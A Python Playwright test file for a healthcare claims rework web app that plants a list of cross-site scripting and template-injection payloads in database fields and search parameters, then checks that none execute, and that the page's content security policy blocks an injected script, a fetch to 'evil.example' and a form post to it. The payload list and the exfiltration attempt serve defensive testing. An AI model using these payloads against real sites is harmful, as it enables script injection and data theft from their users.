"""W6: markup that payers, patients and people wrote never runs, in a real browser."""

from typing import Any

from playwright.sync_api import Page
from sqlalchemy import Engine, text

from tests.e2e.conftest import SignIn
from tests.integration.web import scene

PAYLOADS = (
    "<script>hooked()</script>", "<img src=x onerror=hooked()>", "<svg onload=hooked()>",
    "\" autofocus onfocus=hooked() x=\"", "'><iframe srcdoc='<script>parent.hooked()</script>'>",
    "<a href=javascript:hooked() id=lure>x</a>", "<style>@import 'x'</style>",
    "</textarea></title></script><script>hooked()</script>", "{{7*7}}${7*7}<%=7*7%>",
    "<div hx-get=/work hx-trigger=load hx-on::load=hooked()>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hooked()'>", "<form action=//evil.example>",
    "\u2028<script>hooked()</script>", "<!--><img src=x onerror=hooked()>-->",
)
EVIL = " ".join(PAYLOADS)


def _hooked(page: Page) -> list[str]:
    """Count what runs: the hook of the payloads, and every dialog."""
    ran: list[str] = []
    page.context.expose_function("hooked", lambda *_: ran.append("hook"))
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    return ran


def _poisoned(engine: Engine) -> str:
    """An item whose note, patient, remarks, reasons, numbers, tags and history are payloads."""
    with engine.begin() as conn:
        made = scene.denied(
            conn, "hostile", note=f"Subjective: {EVIL}", remarks=PAYLOADS, reason=("CO", EVIL),
        )
        rework_id = scene.play(conn, made)
        given: dict[str, Any] = {"evil": EVIL, "all": list(PAYLOADS), "id": rework_id}
        conn.execute(
            text(
                "update work_item set tags = to_jsonb(cast(:all as text[])), due_rule = :evil,"
                " carcs = to_jsonb(cast(:all as text[])), payer_claim_number = :evil,"
                " taken_by = '', assigned_to = 'anna' where rework_id = cast(:id as uuid)"
            ),
            given,
        )
        conn.execute(
            text(
                "insert into work_history (rework_id, at, who, role, action, before, after) values"
                " (cast(:id as uuid), now(), :evil, :evil, :evil,"
                " jsonb_build_object('state', cast(:evil as text)),"
                " jsonb_build_object('state', cast(:evil as text)))"
            ),
            given,
        )
    return rework_id


def test_w6_nothing_that_was_written_outside_runs_on_any_page(
    sign_in: SignIn, address: str, engine: Engine
) -> None:
    item = _poisoned(engine)
    for name, paths in {
        "anna": ("/work?view=todo", f"/work/{item}", f"/work/{item}/news?seen=0", "/lessons",
                 "/work?q=<script>hooked()</script>&tag=<img src=x onerror=hooked()>"),
        "sue": (f"/work/{item}", "/board", "/audit?actor=<svg onload=hooked()>", "/queries",
                f"/audit?object={item}", "/break-glass"),
    }.items():
        page = sign_in(name)
        ran = _hooked(page)
        for path in paths:
            page.goto(address + path)
            page.wait_for_load_state("load")
            for lure in page.locator("#lure").all():
                lure.click()
            injected = page.evaluate(
                "document.querySelectorAll('iframe, svg[onload], img[onerror], base,"
                " meta[http-equiv=refresh], [onfocus], a[href^=\"javascript:\"]').length"
            )
            assert (injected, ran) == (0, []), path
        page.goto(f"{address}/work/{item}")
        assert "hooked()" in page.inner_text("body")  # it is there, as text


def test_w6_the_policy_of_the_page_stops_a_script_that_got_in(
    sign_in: SignIn, address: str, engine: Engine
) -> None:
    """Were the escaping to fail, nothing inline would run and nothing could be sent away."""
    page = sign_in("anna").context.new_page()  # this one may complain: that is what is tried
    ran = _hooked(page)
    page.goto(f"{address}/work")
    stopped = page.evaluate(
        """async () => {
            const stopped = [];
            document.addEventListener("securitypolicyviolation", e =>
                stopped.push(e.effectiveDirective));
            const script = document.createElement("script");
            script.textContent = "hooked()";
            document.body.append(script);
            const div = document.createElement("div");
            div.innerHTML = "<img src=x onerror=hooked()><a href='javascript:hooked()'>x</a>";
            document.body.append(div);
            div.querySelector("a").click();
            await fetch("https://evil.example/").catch(() => 0);
            const form = document.createElement("form");
            form.action = "https://evil.example/"; form.method = "post";
            document.body.append(form); form.submit();
            await new Promise(done => setTimeout(done, 300));
            return stopped;
        }"""
    )
    assert ran == []
    assert {"script-src-elem", "script-src-attr", "connect-src", "form-action"} <= set(stopped)
